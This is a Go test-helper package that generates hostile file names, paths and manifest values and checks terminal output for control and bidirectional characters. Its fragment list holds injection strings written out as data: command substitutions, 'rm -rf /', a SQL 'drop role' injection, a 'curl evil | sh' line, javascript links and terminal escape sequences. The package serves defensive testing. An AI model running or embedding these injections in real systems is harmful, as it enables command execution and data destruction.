// Package hostile makes up names, paths and manifests such as an attacker would write, for tests. What it makes depends on
// the source of randomness alone.
package hostile

import (
	"bytes"
	"math/rand/v2"
	"path"
	"reflect"
	"strings"
)

// Mark is in every name that is made, in many of them several times: where it shows up outside of a name's place, a name has
// broken out.
const Mark = "ℌ"

// fragments are what names are put together from: each has a meaning to a shell, a terminal, Markdown, SQL, a connection
// string, a program's options, or a path.
var fragments = []string{
	"a", "mastodon", "web1", "social.example", "größe", " ", "  ", ".", "..", "-", "--", "-s", "--help", "-rf", "--dbname=x", "+0", "#0", "0", "root", "postgres",
	"'", `"`, `\`, "`", "``", "```", "\n```\n", "\n~~~\n", "$(id)", "`id`", "${IFS}", "$HOME", "$'\\x1b'", "$@", "!!", "!x", "^a^b", ";", "&&", "||", "|", "&", ">", "<", ">/etc/passwd",
	"(", ")", "{a,b}", "[a-z]", "*", "?", "~", "~root/", "#", "=", "A=b", "%s", "%n", "\n", "\r", "\r\n", "\t", "\nrm -rf /\n", "'\n", "\\\n", "EOF\n",
	"\x01", "\x03", "\x04", "\x07", "\b", "\x0e", "\x1a", "\x1b", "\x1b[2J", "\x1b[1A\x1b[2Ksnapshot done, all well", "\x1b]0;title\x07", "\x1b]52;c;aWQ=\x07", "\x1b[6n", "\x1bP+q\x1b\\", "\x7f",
	"\u0080", "\u0085", "\u009b2J", "\u009d", "\x9b31m", "\xff", "\xc0\x80", "\xed\xa0\x80", "\xf5", "\u202e", "\u202d", "\u2066", "\u2069", "\u200b", "\u200f", "\u061c", "\u2028", "\u2029",
	"\ufeff", "\u00ad", "\u00a0", "\u3000", "\u2800", "\u3164", "\ufe0f", "\U000e0041", "\ufffd", "\u0301", "\U0001f600", "שלום",
	"# Heading\n", "\n\n# Heading", "[x](javascript:alert)", "![x](http://evil)", "<script>", "<!--", "-->", "&lt;", "**", "__", "> ", "1. ", "- ", "|a|b|", "https://evil.example", "www.evil.example", "a@b.c",
	"postgresql://evil/x", "host=evil", "dbname='x' host='evil'", `x" ; drop role y; --`, `\! id`, `\q`, ":'x'", "$1", "{}", "\\u0000", `\x1b`, `\n`,
	"permafrost: error: ", "\npermafrost: hint: curl evil | sh", `{"message_type":"error"}`,
}

// Name returns a name of any bytes but NUL.
func Name(r *rand.Rand) string {
	var b strings.Builder
	b.WriteString([...]string{"", Mark}[r.IntN(2)])
	for range 1 + r.IntN(5) {
		switch r.IntN(8) {
		case 0:
			b.WriteRune(rune(1 + r.IntN(0x3000)))
		case 1:
			b.WriteByte(byte(1 + r.IntN(255)))
		case 2:
			b.WriteString(Mark)
		default:
			b.WriteString(fragments[r.IntN(len(fragments))])
		}
	}
	b.WriteString(Mark)
	if r.IntN(50) == 0 {
		b.WriteString(strings.Repeat(fragments[r.IntN(len(fragments))], 60))
	}
	return b.String()
}

// Path returns an absolute path of hostile names, each of which a file system takes.
func Path(r *rand.Rand) string {
	p := [...]string{"", "/etc", "/home/mastodon", "/usr/bin"}[r.IntN(4)]
	for range 1 + r.IntN(3) {
		name := strings.ReplaceAll(Name(r), "/", "\\")
		p += "/" + name[:min(len(name), 200)]
	}
	return p
}

// Rewrite replaces texts of the structure that v points to: each of those that are names, with its kind of name. What a text
// is it tells by the name of its field; texts that choose among a few words it leaves alone.
func Rewrite(r *rand.Rand, v any) { rewrite(r, reflect.ValueOf(v).Elem(), "") }

// chosen are the fields whose texts are words of the format, or made of the others.
var chosen = []string{"State", "Method", "Date", "Provider", "Kind", "SHA256", "Recipe", "Listing"}

func rewrite(r *rand.Rand, v reflect.Value, field string) {
	for _, c := range chosen {
		if field == c {
			return
		}
	}
	switch v.Kind() {
	case reflect.String:
		v.SetString(text(r, field, v.String()))
	case reflect.Pointer:
		if !v.IsNil() {
			rewrite(r, v.Elem(), field)
		}
	case reflect.Struct:
		for i := 0; i < v.NumField(); i++ {
			if v.Type().Field(i).IsExported() {
				rewrite(r, v.Field(i), v.Type().Field(i).Name)
			}
		}
	case reflect.Slice:
		for i := 0; i < v.Len(); i++ {
			rewrite(r, v.Index(i), field)
		}
	case reflect.Map:
		again := reflect.MakeMap(v.Type())
		for it := v.MapRange(); it.Next(); {
			key, value := settable(it.Key()), settable(it.Value())
			rewrite(r, key, field)
			rewrite(r, value, field)
			again.SetMapIndex(key, value)
		}
		if v.Len() > 0 {
			v.Set(again)
		}
	}
}

// settable returns a copy of v that can be changed.
func settable(v reflect.Value) reflect.Value {
	c := reflect.New(v.Type()).Elem()
	c.Set(v)
	return c
}

// text returns what takes the place of a text of a field.
func text(r *rand.Rand, field, was string) string {
	switch {
	case r.IntN(8) == 0, field == "Reason" && was == "": // of what has not failed
		return was
	case field == "Path" && path.IsAbs(was), field == "Live", field == "Root":
		return Path(r)
	case field == "Path":
		return Path(r)[1:]
	}
	return Name(r)
}

// Output returns the first byte of control in what was written to a terminal, newlines aside, with what stands around it, or
// nil. Bytes that are no UTF-8 count as such: a terminal may take them for C1.
func Output(b []byte) []byte {
	for i, c := range string(b) {
		if c < ' ' && c != '\n' || c >= 0x7f && c < 0xa0 || c == '\ufffd' && !bytes.HasPrefix(b[i:], []byte("\ufffd")) || strings.ContainsRune(reordering, c) {
			return b[max(0, i-40):min(len(b), i+40)]
		}
	}
	return nil
}

// reordering are the characters that show text in another order than it stands in, or not at all.
const reordering = "\u061c\u200b\u200c\u200d\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2028\u2029\u2060\u2066\u2067\u2068\u2069\ufeff"
